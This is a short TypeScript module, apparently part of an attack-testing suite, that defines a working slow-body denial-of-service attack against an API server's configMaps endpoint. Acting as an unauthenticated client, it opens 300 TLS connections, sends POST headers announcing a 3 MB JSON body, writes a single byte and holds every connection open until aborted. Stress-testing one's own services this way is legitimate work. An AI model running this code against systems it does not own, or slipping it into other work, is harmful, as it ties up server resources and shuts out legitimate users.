import { type Attack, aborted, configMaps } from "../attack.ts";
import { tlsConnection } from "../target.ts";

const connectionsMax = 300;

/** Requests whose bodies are announced and never come to an end. */
export const bodiesThatNeverEnd: Attack = {
  name: "bodies that never end",
  who: "stranger",
  async run({ target, signal }) {
    const head = `POST ${configMaps} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n{`;
    const sockets = Array.from({ length: connectionsMax }, () => {
      const socket = tlsConnection(target, "stranger");
      socket.once("secureConnect", () => socket.write(head));
      return socket;
    });
    await aborted(signal);
    for (const socket of sockets) socket.destroy();
  },
};
